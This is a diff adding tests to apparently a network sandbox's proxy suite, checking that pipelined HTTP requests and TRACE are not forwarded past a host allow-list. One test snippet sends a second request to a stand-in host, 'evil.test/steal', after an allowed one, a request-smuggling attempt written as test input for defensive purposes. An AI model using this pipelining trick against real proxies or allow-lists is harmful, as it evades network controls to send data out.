@@ -451,3 +451,95 @@ pass_503_and_silence() {
 	assert_status 0
 	assert_eq "$output" "http://alice:$PASSWORD@127.0.0.1:1"
 }
+
+# --- one request a connection ---------------------------------------------
+
+# start_raw NAME: a server on the loopback that writes every byte it gets
+# to $W/NAME.raw, answers one 200 after the first request head, and
+# reads on for a second before it closes; its port in $RAW_PORT.
+start_raw() {
+	: >"$W/$1.raw"
+	chmod 0666 "$W/$1.raw"
+	rm -f "$W/$1.rawport"
+	bg "$PY" -c '
+import socket, sys, threading, time
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
+open(sys.argv[1] + "port", "w").write("%d\n" % s.getsockname()[1])
+def serve(c):
+    got, answered, end = b"", False, None
+    c.settimeout(0.2)
+    while end is None or time.time() < end:
+        try:
+            b = c.recv(65536)
+        except socket.timeout:
+            continue
+        if not b:
+            break
+        got += b
+        with open(sys.argv[1], "ab") as f:
+            f.write(b)
+        if not answered and b"\r\n\r\n" in got:
+            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
+            answered, end = True, time.time() + 1
+    c.close()
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+' "$W/$1.raw"
+	wait_for 10 test -s "$W/$1.rawport"
+	RAW_PORT=$(cat "$W/$1.rawport")
+}
+
+# PIPELINED: a request for the allowed host, a second on the same
+# connection for another (argv: PROXY-PORT FIRST-URL).
+PIPELINED='import socket, sys, time
+c = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+c.sendall(b"GET " + sys.argv[2].encode() + b" HTTP/1.1\r\nHost: " +
+          sys.argv[2].split("/")[2].encode() + b"\r\n\r\n"
+          b"GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n")
+c.settimeout(5)
+out = b""
+try:
+    while True:
+        b = c.recv(65536)
+        if not b:
+            break
+        out += b
+except socket.timeout:
+    pass
+sys.stdout.write(out.decode(errors="replace"))'
+
+pass_one_request() {
+	start_raw up
+	# The control: sent straight to the server, both requests arrive.
+	run usr "$PY" -c "$PIPELINED" "$RAW_PORT" "http://site.test/first"
+	assert_contains "$(cat "$W/up.raw")" "GET http://evil.test/steal"
+	: >"$W/up.raw"
+	# Through --upstream-proxy: the first request only.
+	run sbx --upstream-proxy="http://127.0.0.1:$RAW_PORT" \
+		--allow-host=site.test -- \
+		"$PY" -c "$PIPELINED" 3128 "http://site.test/first"
+	assert_status 0
+	assert_contains "$output" "200 OK"
+	assert_contains "$(cat "$W/up.raw")" "GET http://site.test:80/first HTTP/1.1"
+	refute_contains "$(cat "$W/up.raw")" "evil.test"
+	# Directly, to an address the allow-list covers: the same.
+	start_raw direct
+	run sbx --upstream-proxy=none --allow-host="127.0.0.0/8:$RAW_PORT" -- \
+		"$PY" -c "$PIPELINED" 3128 "http://127.0.0.1:$RAW_PORT/first"
+	assert_status 0
+	assert_contains "$output" "200 OK"
+	assert_contains "$(cat "$W/direct.raw")" "GET /first HTTP/1.1"
+	refute_contains "$(cat "$W/direct.raw")" "evil.test"
+	# TRACE, which would echo the upstream's credentials, is not passed on.
+	: >"$W/up.raw"
+	run sbx --upstream-proxy="http://127.0.0.1:$RAW_PORT" \
+		--allow-host=site.test -- \
+		curl -sS -X TRACE -x http://127.0.0.1:3128 http://site.test/
+	assert_contains "$output" "TRACE is not passed on"
+	assert_eq "$(cat "$W/up.raw")" ""
+}
+
+@test "a plain HTTP request is one a connection: a second one after it (for any host) never reaches the upstream or the server; TRACE is not passed on" {
+	each_user pass_one_request
+}
